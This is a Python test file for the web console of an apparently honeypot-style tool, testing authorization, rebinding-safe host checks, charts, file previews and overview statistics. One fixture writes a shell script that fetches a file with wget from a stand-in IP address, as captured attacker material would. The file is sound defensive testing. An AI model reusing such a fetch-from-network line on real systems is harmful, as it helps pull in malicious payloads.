"""The web console's pure parts: the guard's decisions, charts, presentation, file previews, the
overview's periods and buckets, the listen check, and the vendored player against its record."""

from __future__ import annotations

import base64
import hashlib
import json
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from sandtrap.analysis import overview as ov
from sandtrap.config import Config, WebConfig, is_loopback_host
from sandtrap.errors import ConfigError
from sandtrap.store.index import SCHEMA
from sandtrap.web import charts, files, present
from sandtrap.web.security import host_name, is_allowed_host, is_authorized
from sandtrap.web.server import listen_address

VENDOR = Path(__file__).resolve().parents[2] / "src" / "sandtrap" / "web" / "static" / "vendor"
TOKEN = "0123456789abcdef-token"
ANY = "0.0.0.0"  # noqa: S104 - a listen address under test, nothing binds it


def test_authorization_accepts_bearer_and_basic_with_the_token_only() -> None:
    assert is_authorized(None, None)
    assert is_authorized(f"Bearer {TOKEN}", TOKEN)
    assert is_authorized("Basic " + base64.b64encode(f"x:{TOKEN}".encode()).decode(), TOKEN)
    assert not is_authorized(None, TOKEN)
    assert not is_authorized("Bearer wrong", TOKEN)
    assert not is_authorized(f"Digest {TOKEN}", TOKEN)
    assert not is_authorized("Basic %%%notbase64", TOKEN)
    assert not is_authorized("Basic " + base64.b64encode(TOKEN.encode()).decode(), TOKEN)


@pytest.mark.parametrize(
    ("header", "name"),
    [
        ("127.0.0.1:8080", "127.0.0.1"),
        ("[::1]:8080", "::1"),
        ("LocalHost", "localhost"),
        ("::1", "::1"),
    ],
)
def test_host_names(header: str, name: str) -> None:
    assert host_name(header) == name


def test_host_check_guards_against_rebinding_without_a_token() -> None:
    assert is_allowed_host("127.0.0.1:8080", False, [])
    assert is_allowed_host("127.3.4.5", False, [])
    assert is_allowed_host("localhost:1", False, [])
    assert not is_allowed_host("evil.example:8080", False, [])
    assert not is_allowed_host("", False, [])
    assert is_allowed_host("console.example", False, ["console.example"])
    assert is_allowed_host("anything.example", True, [])
    assert not is_allowed_host("anything.example", True, ["console.example"])


def test_non_loopback_listen_needs_a_token() -> None:
    assert is_loopback_host("127.0.0.1") and is_loopback_host("::1")
    assert is_loopback_host("localhost") and not is_loopback_host(ANY)
    with pytest.raises(ValueError, match=r"set web\.token"):
        WebConfig(listen="0.0.0.0:8080")
    WebConfig(listen="0.0.0.0:8080", token=TOKEN)
    config = Config()
    assert listen_address(config, None) == ("127.0.0.1", 8080)
    assert listen_address(config, "[::1]:9000") == ("::1", 9000)
    with pytest.raises(ConfigError, match="not a loopback address"):
        listen_address(config, "192.0.2.1:8080")
    with pytest.raises(ConfigError, match="--listen"):
        listen_address(config, "nonsense")
    with_token = Config(web=WebConfig(token=TOKEN))
    assert listen_address(with_token, f"{ANY}:8080") == (ANY, 8080)


def test_charts_escape_and_scale() -> None:
    start = datetime(2026, 11, 30, tzinfo=UTC)
    buckets = [ov.Bucket(start + timedelta(hours=i), i, i // 2) for i in range(24)]
    svg = str(charts.timeline_svg(buckets))
    assert svg.startswith("<svg") and svg.count("<rect") == 24 and "style=" not in svg
    assert ">50<" in svg and ">25<" in svg  # 23 rounds up to a scale of 50
    assert "empty" in str(charts.timeline_svg([]))
    grid = [[0] * 24 for _ in range(7)]
    grid[2][14] = 9
    heat = str(charts.heatmap_svg(grid))
    assert 'class="q8"' in heat and "Wed 14:00 UTC: 9 connections" in heat
    assert 'width="50.0"' in str(charts.bar_svg(5, 10))
    assert [charts._nice_max(v) for v in (0, 1, 3, 7, 11, 230)] == [1, 1, 5, 10, 20, 500]


def test_presentation() -> None:
    assert present.when("2026-11-29T14:30:10.123456Z") == "2026-11-29 14:30:10"
    assert present.when(None) == "-"
    assert present.offset("2026-11-29T14:30:22Z", "2026-11-29T14:30:10Z") == "+12.0 s"
    assert present.offset("2026-11-29T15:30:10Z", "2026-11-29T14:30:10Z") == "+60.0 min"
    assert present.duration(5) == "5.0 s" and present.duration(125) == "2 min 5 s"
    assert present.duration(7300) == "2 h 1 min" and present.duration(None) == "-"
    assert present.size(100) == "100 B" and present.size(2048) == "2.0 KiB"
    assert present.size(None) == "-"
    assert present.change(12.4) == "+12 %" and present.change(None) == ""
    assert present.clip("x" * 400, 10) == "x" * 9 + "…"
    assert present.clip({"a": [1]}) == '{"a":[1]}' and present.clip(None) == "null"
    record = {"eventid": "network.dns.query", "session": "ab", "query": "evil.example", "n": 2}
    assert present.fields(record) == [("query", "evil.example"), ("n", "2")]
    assert present.summary(record) == "query=evil.example n=2"
    connect = {"eventid": "network.connect", "dst_port": 4444, "proto": "tcp", "dst_ip": "x"}
    assert present.fields(connect) == [("dst_ip", "x"), ("dst_port", "4444"), ("proto", "tcp")]
    assert present.fields({"eventid": "session.connect", "dst_port": 22}) == []
    item = present.live_item(3, record)
    assert item["eventid"] == "network.dns.query" and item["summary"] == "query=evil.example n=2"


def test_file_previews() -> None:
    assert files.sniff(b"\x7fELF\x02\x01") == "ELF executable"
    assert files.sniff(b"#!/bin/bash\necho") == "script (/bin/bash)"
    assert files.sniff(b"\x1f\x8b\x08") == "gzip"
    assert files.sniff(b"hello\n") == "text" and files.sniff(b"\xff\xfe\x00") == "data"
    assert files.sniff(b"") == "empty"
    assert files.sniff(b"\0" * 257 + b"ustar\0" + b"\0" * 10) == "tar"
    dump = files.hexdump(b"AB\x00" * 6)
    assert dump[0].startswith("00000000  41 42 00") and dump[0].endswith("|AB.AB.AB.AB.AB.A|")
    assert files.strings(b"\x00short\x00long enough string\x01") == ["long enough string"]


def test_stored_file_description(tmp_path: Path) -> None:
    path = tmp_path / "f"
    path.write_bytes(b"#!/bin/sh\nwget http://198.51.100.7/x\n")
    stored = files.read_stored(path)
    assert stored.present and stored.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert stored.kind == "script (/bin/sh)" and "wget http://198.51.100.7/x" in stored.strings
    assert not files.read_stored(tmp_path / "missing").present


def _db() -> sqlite3.Connection:
    db = sqlite3.connect(":memory:")
    db.executescript(SCHEMA)
    return db


def test_cards_compare_with_the_previous_period() -> None:
    now = datetime(2026, 12, 1, 12, tzinfo=UTC)
    db = _db()
    for hours_ago, ip in ((1, "a"), (2, "b"), (3, "a"), (30, "c")):
        db.execute(
            "INSERT INTO sessions (session, src_ip, started) VALUES (?, ?, ?)",
            (f"s{hours_ago}", ip, (now - timedelta(hours=hours_ago)).isoformat()[:19] + "Z"),
        )
    span = ov.period("24h", now)
    cards = {card.key: card for card in ov.cards(db, span)}
    assert (cards["connections"].value, cards["connections"].previous) == (3, 1)
    assert cards["connections"].change_percent == 200.0
    assert (cards["sources"].value, cards["sources"].previous) == (2, 1)
    assert cards["logins"].change_percent is None
    everything = {card.key: card for card in ov.cards(db, ov.period("all", now))}
    assert everything["connections"].value == 4 and everything["connections"].previous is None
    buckets = ov.timeline(db, span)
    assert len(buckets) == 25 and sum(b.connections for b in buckets) == 3
    assert sum(b.connections for b in ov.timeline(db, ov.period("all", now))) == 4
    grid = ov.heatmap(db, ov.period("all", now))
    # 2026-12-01 is a Tuesday (row 1); 30 h before noon is Monday 06:00 (row 0).
    assert grid[1][11] == 1 and grid[1][9] == 1 and grid[0][6] == 1
    with pytest.raises(KeyError):
        ov.period("1y", now)


def test_vendored_player_matches_its_record() -> None:
    record = json.loads((VENDOR / "VENDORED.json").read_text())
    (player,) = record
    assert player["name"] == "asciinema-player" and player["license"] == "Apache-2.0"
    for name, digest in player["files"].items():
        assert hashlib.sha256((VENDOR / name).read_bytes()).hexdigest() == digest, name


def test_the_web_benchmark_block_survives_the_main_report(tmp_path: Path) -> None:
    from bench.web_bench import END, START, keep_section, write_section

    page = tmp_path / "performance.md"
    page.write_text("# Performance\n\nold figures\n")
    write_section(page, f"{START}\nweb v1\n{END}")
    write_section(page, f"{START}\nweb v2\n{END}")
    text = page.read_text()
    assert text.count(START) == 1 and "web v2" in text and "old figures" in text
    rewritten = keep_section(page, "# Performance\n\nnew figures\n")
    assert "new figures" in rewritten and "web v2" in rewritten and "old figures" not in rewritten
    assert keep_section(tmp_path / "missing.md", "x") == "x"


async def test_the_overview_cache_computes_once_per_period_and_expires() -> None:
    from sandtrap.web.app import Cache

    now = [0.0]
    calls: list[str] = []
    cache = Cache(10, clock=lambda: now[0])

    async def compute() -> int:
        calls.append("x")
        return len(calls)

    assert await cache.get("24h", compute) == 1
    assert await cache.get("24h", compute) == 1
    assert await cache.get("7d", compute) == 2
    now[0] = 11
    assert await cache.get("24h", compute) == 3
    assert await Cache(0).get("24h", compute) == 4
